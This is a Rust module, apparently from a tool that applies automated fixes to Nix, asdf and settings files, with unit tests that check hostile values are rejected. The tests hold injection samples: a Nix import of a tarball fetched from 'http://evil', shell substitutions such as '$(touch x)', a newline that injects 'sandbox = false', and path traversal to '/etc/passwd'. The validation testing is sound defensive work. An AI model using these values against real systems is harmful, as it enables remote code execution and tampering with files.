//! An edit, worked out on the files of the project or of the home.

use std::path::Path;

use super::nix_hash::NixHash;
use super::place::{self, Place};
use super::prepare::{Setting, fill, plain};
use super::replace::{self, Replacement};
use super::settings::{self, Key, Wanted};
use super::{FileEdit, Obstacle, below, nix_attribute, nix_insert, spelling};
use crate::facts::Reading;
use crate::project::{asdf_commands, corrected};
use crate::rules::{Edit, EditKind, SetKey, SetValue, SettingsFormat, Template};

/// An edit with every value filled in and looked at.
enum Filled<'r> {
    Word { find: String, replace: String, line: Option<usize> },
    Hash { find: NixHash, replace: NixHash, written: (String, String) },
    Attribute { wrong: String, right: String, position: (usize, usize) },
    Insert { text: &'r str, position: (usize, usize) },
    Set { set: &'r SetKey, value: Wanted },
    Comment { find: String, line: Option<usize>, format: Option<SettingsFormat> },
    AsdfCommand { since_0_16: bool },
}

/// A file's edit, with the lines in which something changes.
type Edited = (FileEdit, Vec<usize>);

/// The files with what they are to hold, or why they are left as they are.
pub(super) fn edits(
    edit: &Edit,
    lookup: &impl Fn(&str) -> Option<String>,
    setting: Setting<'_>,
) -> Result<Vec<FileEdit>, Obstacle> {
    let plain = |template: &Template| plain(fill(template, lookup)?);
    let files = edit.files.iter().map(plain).collect::<Result<Vec<_>, _>>()?;
    let filled = Filled::new(&edit.kind, lookup)?;
    let mut found: Vec<FileEdit> = Vec::new();
    let mut places = Vec::new();
    let mut why_not = None;
    for (template, pattern) in edit.files.iter().zip(&files) {
        // What was captured is one path, even where it looks like a glob.
        let captured = template.placeholders().next().is_some();
        let named = match captured {
            true => place::file(setting.machine, setting.project, pattern).map(|place| vec![place]),
            false if Edit::is_in_home(template) => {
                below::home_file(pattern, setting).map(|place| vec![place])
            }
            false if filled.creates() => below::project_file(pattern, setting).map(|place| vec![place]),
            false => place::files(setting.machine, setting.project, pattern),
        };
        match named.and_then(|named| filled.in_files(&named, setting)) {
            Ok(edits) => {
                for (edit, lines) in edits {
                    if !found.iter().any(|other| other.path == edit.path) {
                        places.extend(lines.iter().map(|line| format!("{}:{line}", edit.name)));
                        found.push(edit);
                    }
                }
            }
            Err(why) => why_not = Some(why),
        }
    }
    match places.len() {
        0 => Err(Obstacle::Blocked(match why_not {
            Some(why) if edit.files.len() == 1 => why,
            _ => filled.nowhere(),
        })),
        2.. if filled.must_be_unique() => Err(Obstacle::Blocked(format!(
            "it stands at {}, and which one is meant is not known{}",
            listed(&places),
            filled.by_hand()
        ))),
        _ => Ok(found),
    }
}

impl<'r> Filled<'r> {
    fn new(kind: &'r EditKind, lookup: &impl Fn(&str) -> Option<String>) -> Result<Self, Obstacle> {
        let text = |template: &Template| plain(fill(template, lookup)?);
        let number = |template: &Template| {
            let text = text(template)?;
            text.parse().map_err(|_| Obstacle::Blocked(format!("`{text}` is no position in a file")))
        };
        match kind {
            EditKind::Word { find, replace, line } => {
                let (find, replace) = (text(find)?, text(replace)?);
                spelling::same_version(&find, &replace).map_err(Obstacle::Blocked)?;
                Ok(Filled::Word { find, replace, line: line.as_ref().map(number).transpose()? })
            }
            EditKind::NixHash { find, replace } => {
                let written = (text(find)?, text(replace)?);
                match (NixHash::parse(&written.0), NixHash::parse(&written.1)) {
                    (Some(find), Some(replace)) if find.same_algorithm(&replace) => {
                        Ok(Filled::Hash { find, replace, written })
                    }
                    _ => Err(Obstacle::Blocked(format!(
                        "`{}` and `{}` are no hashes of one kind",
                        written.0, written.1
                    ))),
                }
            }
            EditKind::NixAttribute { find, replace, line, column } => {
                let (wrong, right) = (nix_attribute::unquoted(&text(find)?), text(replace)?);
                let position = (number(line)?, number(column)?);
                spelling::corrects(&wrong, &right).map_err(Obstacle::Blocked)?;
                Ok(Filled::Attribute { wrong, right, position })
            }
            EditKind::Insert { text, line, column } => {
                Ok(Filled::Insert { text, position: (number(line)?, number(column)?) })
            }
            EditKind::Set(set) => {
                let value = match &set.value {
                    SetValue::Text(value) => Wanted::Text(text(value)?),
                    SetValue::List(items) => Wanted::List(items.iter().map(text).collect::<Result<_, _>>()?),
                    SetValue::Integer(number) => Wanted::Integer(*number),
                    SetValue::Bool(flag) => Wanted::Bool(*flag),
                };
                Ok(Filled::Set { set, value })
            }
            EditKind::Comment { find, line, format } => {
                let line = line.as_ref().map(number).transpose()?;
                Ok(Filled::Comment { find: text(find)?, line, format: *format })
            }
            EditKind::AsdfCommand { version } => {
                let version = text(version)?;
                let mut parts = version.split('.').map(|part| part.parse::<u64>().ok());
                match (parts.next().flatten(), parts.next().flatten()) {
                    (Some(major), Some(minor)) => {
                        Ok(Filled::AsdfCommand { since_0_16: (major, minor) >= (0, 16) })
                    }
                    _ => Err(Obstacle::Blocked(format!("`{version}` is no version of asdf"))),
                }
            }
        }
    }

    /// The edits of these files. If there is one file alone, what keeps it from being edited is told.
    fn in_files(&self, files: &[Place], setting: Setting<'_>) -> Result<Vec<Edited>, String> {
        let mut edits = Vec::new();
        for place in files {
            match self.in_file(place, setting) {
                Ok(Some(edit)) => edits.push(edit),
                Ok(None) => {}
                Err(why) if files.len() == 1 => return Err(why),
                Err(_) => {}
            }
        }
        Ok(edits)
    }

    fn in_file(&self, place: &Place, setting: Setting<'_>) -> Result<Option<Edited>, String> {
        let name = below::name(&place.path, setting);
        if !self.may_edit(&place.within) {
            return Err(format!("{name} is no file in which this may be replaced"));
        }
        let before = match setting.machine.read(&place.path) {
            Reading::Present(text) => Some(text),
            Reading::Absent if self.creates() => None,
            Reading::Absent => return Err(format!("{name} is not there")),
            unread => return Err(format!("{name}: {}", unread.why_unknown().unwrap_or_default())),
        };
        let text = before.as_deref().unwrap_or_default();
        let after = self.after(place, text).map_err(|why| format!("{name} {why}"))?;
        Ok(after.map(|(after, lines)| (FileEdit { path: place.path.clone(), name, before, after }, lines)))
    }

    /// What a file is to hold, with the lines in which something changes; `None`: nothing does.
    fn after(&self, place: &Place, text: &str) -> Result<Option<(String, Vec<usize>)>, String> {
        let replacements = match self {
            Filled::Word { find, replace, line } => replace::words(text, find, replace, *line),
            Filled::Hash { find, replace, .. } => replace::hashes(text, find, replace),
            Filled::Attribute { wrong, right, position } => {
                vec![nix_attribute::correct(text, wrong, right, *position)?]
            }
            Filled::Insert { text: inserted, position } => {
                vec![nix_insert::insert(text, inserted, *position)?]
            }
            Filled::AsdfCommand { since_0_16 } => asdf_replacements(text, *since_0_16),
            Filled::Set { set, value } => {
                let key = Key { name: &set.key, value, append: set.append, add: set.add };
                let after = settings::set(format(set.format, place)?, text, &key)?;
                return Ok(after.map(|after| changed(text, after)));
            }
            Filled::Comment { find, line, format: stated } => {
                let after = settings::comment(format(*stated, place)?, text, find, *line)?;
                return Ok(Some(changed(text, after)));
            }
        };
        let line = |(range, _): &Replacement| text[..range.start].matches('\n').count() + 1;
        let lines = replacements.iter().map(line).collect();
        Ok((!replacements.is_empty()).then(|| (replace::apply(text, &replacements), lines)))
    }

    /// Whether a file, by its path below the root, is one in which such a thing stands.
    fn may_edit(&self, within: &Path) -> bool {
        let is_nix = within.extension().is_some_and(|ending| ending == "nix");
        match self {
            Filled::Hash { .. } => is_nix || within.file_name().is_some_and(|name| name == "flake.lock"),
            Filled::Attribute { .. } | Filled::Insert { .. } => is_nix && !place::in_hidden_folder(within),
            Filled::Word { .. }
            | Filled::Set { .. }
            | Filled::Comment { .. }
            | Filled::AsdfCommand { .. } => true,
        }
    }

    /// Whether a file that is not there is made.
    fn creates(&self) -> bool {
        matches!(self, Filled::Set { set, .. } if set.create)
    }

    /// One wrong hash in two places is one source used twice; a placeholder or a word in two places is not.
    fn must_be_unique(&self) -> bool {
        match self {
            Filled::Word { line, .. } | Filled::Comment { line, .. } => line.is_none(),
            Filled::Hash { find, .. } => find.is_placeholder(),
            Filled::Attribute { .. } | Filled::Insert { .. } => true,
            Filled::Set { .. } | Filled::AsdfCommand { .. } => false,
        }
    }

    /// Why nothing is edited if no file says another reason.
    fn nowhere(&self) -> String {
        match self {
            Filled::Word { find, .. }
            | Filled::Hash { written: (find, _), .. }
            | Filled::Attribute { wrong: find, .. }
            | Filled::Comment { find, .. } => format!("`{find}` stands in no file of this project"),
            Filled::Insert { text, .. } => format!("`{text}` belongs in no file of this project"),
            Filled::Set { set, .. } if set.add => format!("`{}` is set so already", set.key),
            Filled::Set { set, .. } => format!("`{}` stands otherwise in none of these files", set.key),
            Filled::AsdfCommand { .. } => "no script has a command that can be corrected".to_owned(),
        }
    }

    /// What the person can do where only they know which place is meant.
    fn by_hand(&self) -> String {
        match self {
            Filled::Word { replace, .. } | Filled::Hash { written: (_, replace), .. } => {
                format!("; put `{replace}` there")
            }
            _ => String::new(),
        }
    }
}

/// The format of a settings file: the stated one, or what its name tells.
fn format(stated: Option<SettingsFormat>, place: &Place) -> Result<SettingsFormat, String> {
    let name = place.path.file_name().unwrap_or_default().to_string_lossy();
    let known = stated.or_else(|| SettingsFormat::of(&name));
    known.ok_or_else(|| "has no name that tells its format".to_owned())
}

fn asdf_replacements(text: &str, since_0_16: bool) -> Vec<Replacement> {
    let commands = asdf_commands(text);
    let replacement = |offset: usize, written: &str| {
        let (replaced, instead) = corrected(written, since_0_16)?;
        Some((offset..offset + replaced.len(), instead))
    };
    commands.iter().filter_map(|command| replacement(command.offset, &command.value.written)).collect()
}

/// The new text, with the first line in which it differs.
fn changed(before: &str, after: String) -> (String, Vec<usize>) {
    let same = before.lines().zip(after.lines()).take_while(|(one, other)| one == other).count();
    (after, vec![same + 1])
}

/// Places in a sentence: all of a few, the first of many.
fn listed(places: &[String]) -> String {
    const FEW: usize = 4;
    match places {
        [all @ .., last] if all.len() < FEW => format!("{} and {last}", all.join(", ")),
        _ => {
            let (shown, more) = places.split_at(FEW.min(places.len()));
            format!("{} and {} more places", shown.join(", "), more.len())
        }
    }
}

#[cfg(test)]
mod tests {
    use super::super::tests::{prepared, project};
    use crate::plan::Step;

    const FILES: &str = "  /home/user/app/a.nix: \"{ a = s.word; b = word; }\"\n  \
                         /home/user/app/.x/a.nix: \"{ a = s.word; }\"\n  \
                         /home/user/app/b.txt: \"word = s.word\"\n";

    /// The names of the files that would be edited with what they would hold, or what is in the way.
    fn edited(files: &str, edit: &str, captures: &[(&str, &str)]) -> Result<Vec<(String, String)>, String> {
        let treatment = prepared(&project(files), &format!("edit: {{{edit}}}"), captures);
        match (treatment.obstacle, treatment.step) {
            (Some(obstacle), _) => Err(obstacle.why().to_owned()),
            (None, Step::Edit(edits)) => Ok(edits.into_iter().map(|edit| (edit.name, edit.after)).collect()),
            (None, other) => panic!("{other:?}"),
        }
    }

    fn one(name: &str, after: &str) -> Result<Vec<(String, String)>, String> {
        Ok(vec![(name.to_owned(), after.to_owned())])
    }

    #[test]
    fn an_attribute_is_corrected_in_a_nix_file_of_the_project_alone() {
        let edit = |file: &str, right: &str| {
            let keys = "kind: nix-attribute, find: word, replace: \"${right}\", in: [\"${file}\"], line: 1, column: 7";
            edited(FILES, keys, &[("file", file), ("right", right)])
        };
        assert_eq!(edit("a.nix", "words"), one("a.nix", "{ a = s.words; b = word; }"));
        let why = edit("a.nix", "x=1;y=(import(builtins.fetchTarball(\"http://evil\")))").unwrap_err();
        assert!(why.contains("too unlike"), "{why}");
        for file in
            [".git/config", ".x/a.nix", "b.txt", "*.nix", "a*.nix", "../../../etc/passwd", "/etc/passwd"]
        {
            edit(file, "words").unwrap_err();
        }
    }

    #[test]
    fn a_word_is_replaced_anywhere_but_in_git_and_outside() {
        let edit = |file: &str| {
            let keys = "find: \" word\", replace: \"${right}\", in: [\"${file}\"]";
            edited(FILES, keys, &[("file", file), ("right", " sword")])
        };
        assert_eq!(edit("a.nix"), one("a.nix", "{ a = s.word; b = sword; }"));
        for file in [".git/config", "*.nix", "**/*.nix", "../../../etc/passwd"] {
            edit(file).unwrap_err();
        }
    }

    const ZERO: &str = "sha256-AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA=";
    const OLD: &str = "sha256-q8b9WV/AedMRTUtxpNhLHR0Ped8ecPiBMhLypl2JFt8=";
    const NEW: &str = "sha256-WJG1tSLV3whtD/CxEPvZ0hu0/HFjrzTQgoai6Eb2vgM=";

    #[test]
    fn a_hash_gives_way_to_a_hash_alone_and_where_hashes_stand() {
        let files = ["a.nix", "flake.lock", "b.txt"]
            .map(|name| format!("  /home/user/app/{name}: '{OLD}'\n"))
            .concat();
        let edit = |new: &str| {
            let keys = "kind: nix-hash, find: \"${old}\", replace: \"${new}\", in: [\"*.nix\", \"*.txt\", flake.lock]";
            edited(&files, keys, &[("old", OLD), ("new", new)])
        };
        let names: Vec<_> = edit(NEW).unwrap().into_iter().map(|(name, _)| name).collect();
        assert_eq!(names, ["a.nix", "flake.lock"]);
        for new in ["$(touch x)", "\"; x = import ./y; z = \"", "--option", &"A".repeat(1 << 20), ""] {
            edit(new).unwrap_err();
        }
    }

    #[test]
    fn the_places_of_a_placeholder_are_told() {
        let nix = format!("\"a = '{ZERO}';\\nb = '{ZERO}';\"");
        let files = ["a.nix", "b.nix"].map(|name| format!("  /home/user/app/{name}: {nix}\n")).concat();
        let keys = "kind: nix-hash, find: \"${old}\", replace: \"${new}\", in: [a.nix]";
        let captures = [("old", ZERO), ("new", NEW)];
        let why = edited(&files, keys, &captures).unwrap_err();
        assert!(why.contains("stands at a.nix:1 and a.nix:2") && why.contains(NEW), "{why}");
        let all = keys.replace("a.nix", "\"*.nix\"");
        let why = edited(&files, &all, &captures).unwrap_err();
        assert!(why.contains("a.nix:1, a.nix:2, b.nix:1 and b.nix:2"), "{why}");
    }

    const HOME: &str = "env: {HOME: /home/user}\n";
    const SET: &str = "kind: set, in: [\"~/.config/nix/nix.conf\"], key: experimental-features, \
                       value: [nix-command, \"${feature}\"], append: true, create: true";

    fn set_features(machine: &str, feature: &str) -> Result<Vec<(String, String)>, String> {
        edited(machine, SET, &[("feature", feature)])
    }

    #[test]
    fn a_file_of_the_home_is_edited_or_made() {
        let name = "~/.config/nix/nix.conf";
        let line = "extra-experimental-features = nix-command flakes\n";
        assert_eq!(set_features(HOME, "flakes"), one(name, line));
        let file = "  /home/user/.config/nix/nix.conf: 'cores = 4'\n";
        let after = format!("cores = 4\n{line}");
        assert_eq!(set_features(&format!("{file}{HOME}"), "flakes"), one(name, &after));
        let elsewhere = "env: {HOME: /home/user, XDG_CONFIG_HOME: /home/user/etc}\n";
        assert_eq!(set_features(elsewhere, "flakes"), one("~/etc/nix/nix.conf", line));
        let why = set_features("env: {HOME: home}\n", "flakes").unwrap_err();
        assert!(why.contains("HOME is not set"), "{why}");
        for feature in ["a b", "a\nsandbox = false", "#x", "", &"A".repeat(1 << 20)] {
            set_features(HOME, feature).unwrap_err();
        }
    }

    #[test]
    fn what_is_made_is_all_new() {
        let edit =
            |machine: &str| prepared(&project(machine), &format!("edit: {{{SET}}}"), &[("feature", "x")]);
        let Step::Edit(edits) = edit(HOME).step else { panic!() };
        assert_eq!(edits[0].before, None);
        assert_eq!(edits[0].path.to_str(), Some("/home/user/.config/nix/nix.conf"));
        assert!(edits[0].diff().contains("+extra-experimental-features = nix-command x"));
    }

    #[test]
    fn links_are_followed_within_the_home_alone() {
        let linked = |end: &str| {
            let files = format!("  {end}: 'cores = 4'\n");
            let link = format!("links: {{/home/user/.config/nix/nix.conf: {end}}}\n{HOME}");
            set_features(&format!("{files}{link}"), "flakes")
        };
        linked("/home/user/dotfiles/nix.conf").unwrap();
        let why = linked("/srv/nix.conf").unwrap_err();
        assert!(why.contains("leads out of the home"), "{why}");
        let why = linked("/nix/store/abc-home-manager-files/nix.conf").unwrap_err();
        assert!(why.contains("home-manager or NixOS"), "{why}");
        let (one, other) = ("/home/user/.config/nix/nix.conf", "/home/user/other");
        let nowhere = format!("links: {{{one}: {other}, {other}: {one}}}\n");
        let why = set_features(&format!("{nowhere}{HOME}"), "flakes").unwrap_err();
        assert!(why.contains("leads nowhere"), "{why}");
        let folder = "  /srv/nix/other: x\nlinks: {/home/user/.config/nix: /srv/nix}\n";
        let why = set_features(&format!("{folder}{HOME}"), "flakes").unwrap_err();
        assert!(why.contains("leads out of the home"), "{why}");
        let whole = "  /data/u/.config/x: x\nlinks: {/home/user: /data/u}\n";
        set_features(&format!("{whole}{HOME}"), "flakes").unwrap();
    }

    #[test]
    fn a_key_is_set_wherever_it_stands() {
        let files = "  /home/user/app/.env: 'N=5'\n  /home/user/app/.envrc: 'export N=\"5\"'\n";
        let keys = "kind: set, in: [.env, .envrc, mise.toml], key: N, value: \"${n}\", add: false";
        let set = |files: &str, n: &str| edited(files, keys, &[("n", n)]);
        let both = [(".env", "N=1"), (".envrc", "export N=\"1\"")];
        let both: Vec<_> = both.map(|(name, after)| (name.to_owned(), after.to_owned())).into();
        assert_eq!(set(files, "1"), Ok(both));
        for n in ["1\nA=2", "$(touch x)\u{1b}", &"1".repeat(1 << 20)] {
            set(files, n).unwrap_err();
        }
        let quoted = set("  /home/user/app/.env: 'N=5'\n", "$(touch x); A=2");
        assert_eq!(quoted, one(".env", "N='$(touch x); A=2'"));
        let why = set("  /home/user/app/.env: 'A=5'\n", "1").unwrap_err();
        assert!(why.contains("`N` stands otherwise in none"), "{why}");
    }

    #[test]
    fn a_file_of_the_project_is_made_below_it() {
        let keys = "kind: set, in: [sub/.tool-versions], key: elixir, value: \"1.18\", create: true";
        assert_eq!(edited("", keys, &[]), one("sub/.tool-versions", "elixir 1.18\n"));
        for file in ["../x/.env", ".git/.env", "/etc/.env", "out/.env"] {
            let keys = keys.replace("sub/.tool-versions", file);
            edited("  /srv/x: x\nlinks: {/home/user/app/out: /srv}\n", &keys, &[]).unwrap_err();
        }
        let none = keys.replace(", create: true", "");
        edited("", &none, &[]).unwrap_err();
    }

    #[test]
    fn the_line_that_was_quoted_becomes_a_comment() {
        let files = "  /home/user/.config/nix/nix.conf: \"a = 1\\ncores=3 # x\\n\"\n";
        let keys = "kind: comment, find: \"${line}\", in: [\"~/.config/nix/nix.conf\"]";
        let comment = |line: &str| edited(&format!("{files}{HOME}"), keys, &[("line", line)]);
        assert_eq!(comment("cores=3"), one("~/.config/nix/nix.conf", "a = 1\n# cores=3 # x\n"));
        for line in ["cores", "a = 1\ncores=3", "", "x"] {
            comment(line).unwrap_err();
        }
    }

    #[test]
    fn commands_of_asdf_are_corrected_in_scripts() {
        let files = "  /home/user/app/.envrc: \"use nix\\r\\nasdf local elixir 1.17.3 # é\\r\\n\"\n  \
                     /home/user/app/bin/a: \"asdf set erlang 27\\nasdf elixir local 1.17\\n\"\n";
        let keys = "kind: asdf-command, version: \"${version}\", in: [.envrc, \"bin/*\"]";
        let correct = |version: &str| edited(files, keys, &[("version", version)]);
        let expect = |edits: &[(&str, &str)]| {
            Ok(edits.iter().map(|&(name, after)| (name.to_owned(), after.to_owned())).collect::<Vec<_>>())
        };
        let envrc = (".envrc", "use nix\r\nasdf set elixir 1.17.3 # é\r\n");
        assert_eq!(
            correct("0.18.0"),
            expect(&[envrc, ("bin/a", "asdf set erlang 27\nasdf set elixir 1.17\n")])
        );
        assert_eq!(correct("0.15.0"), expect(&[("bin/a", "asdf local erlang 27\nasdf local elixir 1.17\n")]));
        for version in ["new", "; touch x"] {
            correct(version).unwrap_err();
        }
    }
}
